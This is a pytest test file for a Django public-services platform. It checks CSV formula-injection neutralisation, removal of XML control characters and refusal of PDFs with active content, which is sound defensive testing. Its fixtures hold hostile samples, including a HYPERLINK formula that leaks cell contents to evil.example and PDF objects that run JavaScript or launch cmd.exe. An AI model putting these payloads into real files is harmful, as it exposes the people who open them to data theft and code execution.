"""What the platform writes for others to open cannot turn against them (issue 9):
CSV cells never start a formula (OWASP CSV injection), XML never holds a character XML 1.0
forbids, and an uploaded PDF that could run code is refused."""

import csv
import io
import zlib
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from guichet import exports, uploads
from guichet.accounts.models import Organisation, Role
from guichet.complaints import services as complaints
from guichet.complaints.models import Category, Complaint
from guichet.correspondence import chrono

from .agents import agent, signed_in

FORMULAS = ['=HYPERLINK("http://x.example","clic")', "+1+1", "-2+3", "@SUM(A1)", "\tA", "\rB"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert exports.neutralised_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Route coupée", "", "12", 3, -4, None])
def test_other_cells_are_left_alone(value):
    assert exports.neutralised_cell(value) == value


def test_the_correspondence_register_csv_neutralises_formulas():
    row = {
        "reference": "SGG/A/2026/1",
        "direction": "Arrivée",
        "registered": "01/12/2026",
        "date": "01/12/2026",
        "letter": "-1",
        "correspondent": '=HYPERLINK("http://x.example")',
        "subject": "@cmd",
        "due": "",
        "due_notice": "=1+1",
        "imputation": "+BC",
        "observations": "Reçu",
    }
    text = chrono.register_csv([row]).lstrip("\ufeff")
    cells = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert cells[5] == '\'=HYPERLINK("http://x.example")'
    assert cells[6] == "'@cmd" and cells[4] == "'-1" and cells[8] == "'=1+1"
    assert cells[9] == "'+BC"


@pytest.mark.django_db
def test_the_complaints_csv_neutralises_formulas(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.SMS_GATEWAY = "console"
    category = Category.objects.create(
        code="sante-x",
        name="Santé",
        group="Santé",
        organisation=Organisation.objects.get(code="SGG"),
    )
    complaints.file_complaint(
        category=category,
        description='=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        channel=Complaint.Channel.WEB,
        first_name="+cmd",
    )
    handler = signed_in(agent(Role.COMPLAINTS_HANDLER, "SGG"))
    text = handler.get("/plaintes/agents/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][-1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


CONTROL = "Taxi\x0bbus\x01\x1f\ufffe ok"


def test_xml_text_drops_what_xml_1_0_forbids_and_keeps_the_rest():
    assert exports.xml_text(CONTROL) == "Taxibus ok"
    assert exports.xml_text("é\tà\nç\r😀") == "é\tà\nç\r😀"


@pytest.mark.django_db
def test_open311_xml_stays_well_formed_with_control_characters(client):
    Category.objects.create(
        code="transport-x",
        name=CONTROL,
        group="Transport",
        organisation=Organisation.objects.get(code="MT-STU"),
    )
    response = client.get("/open311/v2/services.xml")
    root = ElementTree.fromstring(response.content)
    assert root.find("service/service_name").text == "Taxibus ok"


def test_akoma_ntoso_xml_is_rendered_despite_control_characters():
    from guichet.gazette import akn

    work = SimpleNamespace(
        frbr_uri="/akn/ne/act/loi/2017/28",
        label="Loi n° 2017-28\x07",
        number="2017-28\x0b",  # written as printed in FRBRnumber
        title="relative\x0c aux données",
        published_on=None,
        signed_on=__import__("datetime").date(2017, 5, 3),
    )
    expression = SimpleNamespace(date=__import__("datetime").date(2017, 5, 3), language="fra")
    part = SimpleNamespace(
        kind="article",
        eid="art_1",
        num="1\x02",
        heading="",
        text="Texte\x1b protégé",
        repealed=False,
        depth=0,
    )
    xml = akn.render(work, expression, [part])
    assert b"Texte prot\xc3\xa9g\xc3\xa9" in xml
    ElementTree.fromstring(xml)


@pytest.mark.django_db
def test_the_gazette_atom_feed_stays_well_formed_with_control_characters(client):
    response = client.get("/journal-officiel/flux/autorite/PRN%01%0B.atom")
    assert response.status_code == 200
    ElementTree.fromstring(b"".join(response) if response.streaming else response.content)


def _pdf(body: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("scan.pdf", b"%PDF-1.7\n" + body + b"\ntrailer <<>>\n%%EOF\n")


@pytest.mark.parametrize(
    "body",
    [
        b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
        b"1 0 obj << /Type /Action /S /Launch /F (cmd.exe) >> endobj",
        b"1 0 obj << /Type /Page /AA << /O 2 0 R >> >> endobj",
        b"1 0 obj << /S /J#61vaScript /J#53 (x) >> endobj",  # names spelt with #xx escapes
        b"1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
        + b"\nendstream endobj",
    ],
)
def test_a_pdf_that_could_run_code_is_refused_with_a_french_message(body):
    with pytest.raises(ValidationError, match="JavaScript ou des actions automatiques"):
        uploads.accepted_kind(_pdf(body), {uploads.PDF}, "Joignez un PDF")


def test_an_ordinary_pdf_is_accepted():
    body = b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >> endobj"
    assert uploads.accepted_kind(_pdf(body), {uploads.PDF}, "x").mime == uploads.PDF
